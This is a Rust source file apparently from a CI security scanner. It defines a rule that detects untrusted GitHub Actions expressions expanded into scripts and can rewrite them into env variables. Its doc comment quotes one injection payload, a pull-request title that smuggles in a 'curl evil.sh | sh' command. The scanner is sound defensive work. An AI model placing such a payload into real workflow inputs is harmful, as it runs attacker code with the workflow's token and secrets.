use github_actions_expressions::Expr;
use jobzero_core::yaml::Node;
use jobzero_core::{Confidence, Family, Severity, declare_rule, expectation};

use crate::audit::{Cx, evidence};
use jobzero_core::check::Sink;
use crate::contexts::Control;
use crate::fix::{Fix, add_to_mapping};
use crate::model::{Job, Step, key_node};
use crate::shell::{Quoting, quoting_at};
use crate::source::expressions;
use crate::taint;

declare_rule! {
    /// ## What it finds
    /// A `${{ … }}` expression expanded into code: a `run:` script, the `script:` of
    /// `actions/github-script`, or the inline script of another script-running action, whose
    /// value can come from outside the repository. The expression is followed through
    /// `env:` variables, values written to `$GITHUB_ENV`, step outputs written to
    /// `$GITHUB_OUTPUT`, job outputs read through `needs` and matrix values.
    ///
    /// Severity follows who controls the value: free text from anyone who can open an
    /// issue, a comment or a fork's pull request (`github.event.issue.title`,
    /// `github.head_ref`) is high; values chosen by people with write access or from a
    /// restricted but shell-unsafe alphabet (`inputs.*`, `github.ref_name`) medium; values
    /// whose origin cannot be followed (an action's output) low, with low confidence.
    ///
    /// ## Why it matters
    /// Expressions are substituted into the script text before the shell runs it, so a
    /// pull-request title such as `a"; curl evil.sh | sh; echo "` becomes code running with
    /// the workflow's token and secrets. This is how the Ultralytics release pipeline was
    /// compromised in December 2024 (a branch name expanded into `git pull`).
    ///
    /// ## Example
    /// ```yaml
    /// - run: echo "Checking ${{ github.event.pull_request.title }}"
    /// ```
    ///
    /// ## Remediation
    /// Pass the value through an environment variable and let the shell expand it as data:
    ///
    /// ```yaml
    /// - run: echo "Checking ${PR_TITLE}"
    ///   env:
    ///     PR_TITLE: ${{ github.event.pull_request.title }}
    /// ```
    ///
    /// `jobzero scan --fix` makes this change for `bash`/`sh` steps when the expansion is a
    /// plain context outside single quotes and heredocs.
    ///
    /// ## References
    /// - CWE-94
    /// - [GitHub: understanding the risk of script injections](https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections)
    /// - [GitHub Security Lab: untrusted input](https://securitylab.github.com/resources/github-actions-untrusted-input/)
    /// - [zizmor: template-injection](https://docs.zizmor.sh/audits/#template-injection)
    pub static RULE = {
        id: "pipeline/template-injection",
        code: "CI002",
        title: "attacker-controllable expression expanded into a script",
        family: Family::Pipeline,
        severity: Severity::High,
        confidence: Confidence::High,
        expectation: &expectation::CODE_ANALYSIS,
    }
}

/// Actions whose input is code, by `owner/repo` and input name.
const SCRIPT_INPUTS: &[(&str, &str)] = &[
    ("actions/github-script", "script"),
    ("azure/cli", "inlinescript"),
    ("azure/powershell", "inlinescript"),
    ("appleboy/ssh-action", "script"),
    ("addnab/docker-run-action", "run"),
    ("uraimo/run-on-arch-action", "run"),
    ("cross-platform-actions/action", "run"),
    ("jannekem/run-python-script-action", "script"),
];

/// The code sinks of a step: the node holding code, its route, and whether it is a shell
/// script (which the fix knows how to rewrite).
fn sinks<'y>(step: &Step<'y>) -> Vec<(Node<'y>, String, bool)> {
    let mut out = Vec::new();
    if let Some((_, node)) = step.run() {
        out.push((node, format!("{}.run", step.route), true));
    }
    for (action, input) in SCRIPT_INPUTS {
        if step.uses_action(action)
            && let Some(with) = step.get("with")
        {
            for (k, v) in with.entries() {
                if k.as_str().is_some_and(|k| k.eq_ignore_ascii_case(input)) {
                    out.push((
                        v,
                        format!("{}.with.{}", step.route, k.as_str().unwrap_or("")),
                        false,
                    ));
                }
            }
        }
    }
    out
}

pub(crate) fn check(cx: &Cx<'_>, out: &mut Sink) {
    for (job, step) in cx.steps() {
        for (node, route, is_shell) in sinks(step) {
            let Some(script) = node.as_str() else {
                continue;
            };
            let mut search_from = 0;
            for e in expressions(script) {
                let raw = e.raw(script);
                let flow = taint::expression(cx, job, Some(step), e.body);
                let (severity, confidence, who) = match flow.control {
                    Control::Fixed => continue,
                    Control::Arbitrary => {
                        (Severity::High, Confidence::High, "attacker-controllable")
                    }
                    Control::Limited => (
                        Severity::Medium,
                        Confidence::Medium,
                        "externally influenced",
                    ),
                    Control::Unknown => (Severity::Low, Confidence::Low, "possibly untrusted"),
                };
                let builder = cx.at_text(&RULE, node, raw, &mut search_from, &route);
                out.push(
                    builder
                        .severity(severity)
                        .confidence(confidence)
                        .message(format!(
                            "`{raw}` expands {who} data ({}) into code in {}",
                            flow.origin,
                            step.label()
                        ))
                        .evidence(evidence(&route, raw)),
                );
                if is_shell && let Some(fix) = env_fix(cx, job, step, script, e.start, e.body) {
                    out.fix(fix);
                }
            }
        }
    }
}

/// Moves a plain context expansion out of a bash script into the step's `env:`.
fn env_fix(
    cx: &Cx<'_>,
    job: Option<&Job<'_>>,
    step: &Step<'_>,
    script: &str,
    offset: usize,
    body: &str,
) -> Option<Fix> {
    let parsed = Expr::parse(body).ok()?;
    if !matches!(parsed.inner, Expr::Context(_)) {
        return None;
    }
    if !is_posix_shell(cx, job, step) {
        return None;
    }
    if matches!(
        quoting_at(script, offset),
        Quoting::Single | Quoting::Heredoc
    ) {
        return None;
    }
    let (_, run) = step.run()?;
    let raw = format!("${{{{{body}}}}}");
    let start = cx.src.find_in(run, &raw, 0)?;
    // Only rewrite when the text in the file is exactly the expansion (not folded or escaped).
    let context = parsed.origin.raw;
    let name = env_name(context);
    let existing = step
        .get("env")
        .and_then(|env| env.get(&name))
        .and_then(|v| v.as_str().map(str::to_owned));
    let value = format!("${{{{ {context} }}}}");
    let mut edits = vec![crate::fix::Edit {
        start,
        end: start + raw.len(),
        text: format!("${{{name}}}"),
    }];
    match existing {
        Some(v) if v.trim() == value => {}
        Some(_) => return None,
        None => {
            let run_key = key_node(step.node, "run")?;
            edits.push(add_to_mapping(
                cx.src,
                step.node,
                "env",
                run_key,
                &[(name.clone(), value)],
            )?);
        }
    }
    Some(Fix {
        rule: RULE.id,
        title: format!("move `{context}` into env `{name}` in {}", step.label()),
        edits,
    })
}

/// Whether the step's script runs in bash or sh.
fn is_posix_shell(cx: &Cx<'_>, job: Option<&Job<'_>>, step: &Step<'_>) -> bool {
    let shell = step
        .get("shell")
        .or_else(|| job.and_then(|j| j.get("defaults")?.get("run")?.get("shell")))
        .or_else(|| {
            cx.workflow
                .as_ref()
                .and_then(|w| w.root.get("defaults")?.get("run")?.get("shell"))
        })
        .and_then(|s| s.as_str());
    match shell {
        Some(s) => {
            let s = s.trim();
            s == "bash" || s == "sh" || s.starts_with("bash ") || s.starts_with("sh ")
        }
        None => {
            // Without `shell:`, Windows runners use PowerShell.
            let runs_on = job
                .and_then(|j| j.get("runs-on"))
                .map(|r| {
                    let mut all: Vec<String> = r.as_str().map(str::to_owned).into_iter().collect();
                    all.extend(r.items().filter_map(|i| i.as_str().map(str::to_owned)));
                    all.join(" ")
                })
                .unwrap_or_default();
            // A composite action's `run` steps must name their shell; none means unknown.
            job.is_some()
                && !runs_on.to_ascii_lowercase().contains("windows")
                && !runs_on.contains("${{")
        }
    }
}

/// An environment variable name for a context: its last two components, upper-cased.
fn env_name(context: &str) -> String {
    let normalized = crate::contexts::normalize(context);
    let parts: Vec<&str> = normalized
        .split('.')
        .filter(|p| *p != "*" && *p != "event" && *p != "outputs")
        .collect();
    let tail = &parts[parts.len().saturating_sub(2)..];
    let mut name: String = tail
        .join("_")
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() {
                c.to_ascii_uppercase()
            } else {
                '_'
            }
        })
        .collect();
    if name.starts_with(|c: char| c.is_ascii_digit()) || name.is_empty() {
        name.insert_str(0, "V_");
    }
    name
}

#[cfg(test)]
mod tests {
    #[test]
    fn env_names_come_from_the_context_tail() {
        assert_eq!(
            super::env_name("github.event.pull_request.title"),
            "PULL_REQUEST_TITLE"
        );
        assert_eq!(super::env_name("github.head_ref"), "GITHUB_HEAD_REF");
        assert_eq!(super::env_name("steps.meta.outputs.tags"), "META_TAGS");
        assert_eq!(super::env_name("inputs.version"), "INPUTS_VERSION");
    }
}
